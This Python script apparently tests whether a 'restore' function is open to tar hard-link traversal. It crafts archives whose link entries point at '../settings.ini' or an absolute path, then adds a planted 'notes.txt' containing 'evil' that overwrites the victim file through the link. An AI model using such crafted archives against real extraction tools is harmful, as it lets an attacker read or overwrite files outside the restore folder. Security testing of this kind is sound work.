"""A hard link to a file outside brings its content in, and a later file of that name changes it."""

import io
import sys
import tarfile
from contextlib import suppress
from pathlib import Path

from restore import RestoreError, restore

victim = Path("settings.ini")
victim.write_text("password = 1\n", encoding="utf-8")
for target in ("../settings.ini", str(victim.absolute())):
    with tarfile.open("backup.tar", "w") as archive:
        for name in ("leak.txt", "notes.txt"):
            link = tarfile.TarInfo(name)
            link.type, link.linkname = tarfile.LNKTYPE, target
            archive.addfile(link)
        planted = tarfile.TarInfo("notes.txt")
        planted.size = 4
        archive.addfile(planted, io.BytesIO(b"evil"))
    with suppress(RestoreError, ValueError, OSError):
        restore("backup.tar", "restored")
leak = Path("restored/leak.txt")
sys.exit(0 if victim.read_bytes() == b"evil" or (leak.exists() and leak.samefile(victim)) else 1)
